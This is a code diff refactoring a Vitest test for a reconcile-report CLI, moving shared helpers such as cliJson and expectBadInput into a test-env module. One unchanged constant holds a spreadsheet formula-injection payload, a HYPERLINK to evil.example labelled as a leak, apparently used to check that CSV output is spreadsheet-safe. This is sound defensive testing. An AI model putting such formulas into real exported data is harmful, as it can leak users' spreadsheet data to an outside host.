@@ -6,20 +6,20 @@ import path from "node:path";
 import { testDatabaseKind, useTestCleanup } from "@greenloop/db/testing";
 import { startSimulator } from "@greenloop/lightspeed-simulator";
 import { describe, expect, it } from "vitest";
-import { editExportOrder } from "../../monitoring/reconcile-test-export";
-import { freshDatabaseEnv, runCliCaptured } from "../testing/cli-test-env";
+import { editExportOrder } from "../../monitoring/reconcile/testing/edit-export-order";
+import {
+  cliJson,
+  expectBadInput,
+  freshDatabaseEnv,
+  runCliCaptured,
+  simulatedStoreEnv,
+} from "../testing/cli-test-env";
 
 const cleanup = useTestCleanup();
 const MINUTE = 60_000;
 const HOUR = 60 * MINUTE;
 const DAY = 24 * HOUR;
 const MALICIOUS = '=HYPERLINK("http://evil.example/?leak","Click")';
-
-async function cliJson(argv: string[], env: Record<string, string>) {
-  const run = await runCliCaptured([...argv, "--json"], env);
-  if (run.exitCode !== 0) throw new Error(`${argv.join(" ")} failed: ${run.lastLine}\n${run.logs}`);
-  return JSON.parse(run.lastLine);
-}
 
 describe(`pnpm cli report reconcile (${testDatabaseKind})`, () => {
   it("reports each order's category as JSON, a spreadsheet-safe CSV and a summary", async () => {
@@ -39,12 +39,7 @@ describe(`pnpm cli report reconcile (${testDatabaseKind})`, () => {
     store.advanceClock(2 * HOUR);
 
     const dir = cleanup.tempDir();
-    const env = {
-      ...(await freshDatabaseEnv(cleanup)),
-      LIGHTSPEED_BASE_URL: sim.baseUrl,
-      LIGHTSPEED_TOKEN: sim.token,
-      STORE_TIMEZONE: store.timeZone,
-    };
+    const env = await simulatedStoreEnv(cleanup, sim);
     await cliJson(["sync"], env);
     let csv = editExportOrder(store.ecomCsvExport(), refunded.orderNumber, {
       payment_status: "Refunded",
@@ -120,13 +115,6 @@ describe(`pnpm cli report reconcile (${testDatabaseKind})`, () => {
       [["report", "reconcile", "x.csv", "--mapping", "{not json"], /--mapping is not valid JSON/],
       [["report", "missing", "--csv", "out.csv"], /report missing does not take --csv/],
     ];
-    for (const [argv, message] of cases) {
-      const run = await runCliCaptured([...argv, "--json"], env);
-      expect(run.exitCode, argv.join(" ")).not.toBe(0);
-      expect(JSON.parse(run.lastLine)).toMatchObject({
-        ok: false,
-        error: { code: "BAD_INPUT", message: expect.stringMatching(message) },
-      });
-    }
+    await expectBadInput(cases, env);
   });
 });
